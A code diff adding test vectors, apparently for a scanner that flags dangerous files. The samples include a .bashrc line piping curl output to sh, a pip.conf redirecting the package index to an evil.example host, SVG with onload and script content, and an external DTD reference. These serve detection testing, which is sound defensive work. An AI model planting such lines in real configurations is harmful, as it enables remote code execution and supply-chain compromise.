@@ -20,7 +20,19 @@ VECTORS = (
     ),
     _bad("startup", "sitecustomize.py", 2, _RUN),
     _bad("startup", "lib/usercustomize.py", 2, _RUN),
+    _bad("shell", ".bashrc", 2, b"curl x | sh\n"),
+    _bad("installer", "pip.conf", 2, b"[global]\nindex-url = http://evil.example\n"),
     _bad("entity", "model.xml", 4, _XXE),
+    *(
+        Vector(name=name, path="model.xml", data=data, rule=rule, fails=rule != "NATIVE-5")
+        for name, data, rule in (
+            ("svg-loads", b"<svg onload='x()'/>", "FOREIGN-5"),
+            ("svg-script", b"<?xml version='1.0'?>\n<!-- a -->\n<svg><script/></svg>", "FOREIGN-5"),
+            ("svg", b"<svg><text>on = off</text></svg>", "NATIVE-5"),
+            ("type-elsewhere", b"<!DOCTYPE a SYSTEM 'http://x/a.dtd'><a/>", "FOREIGN-4"),
+            ("no-type", b"<a>DOCTYPE SYSTEM</a>", "NATIVE-5"),
+        )
+    ),
     *(
         Vector(name=name, path=path, data=data, rule=rule, fails=rule != "FILE-2")
         for name, path, data, rule in (
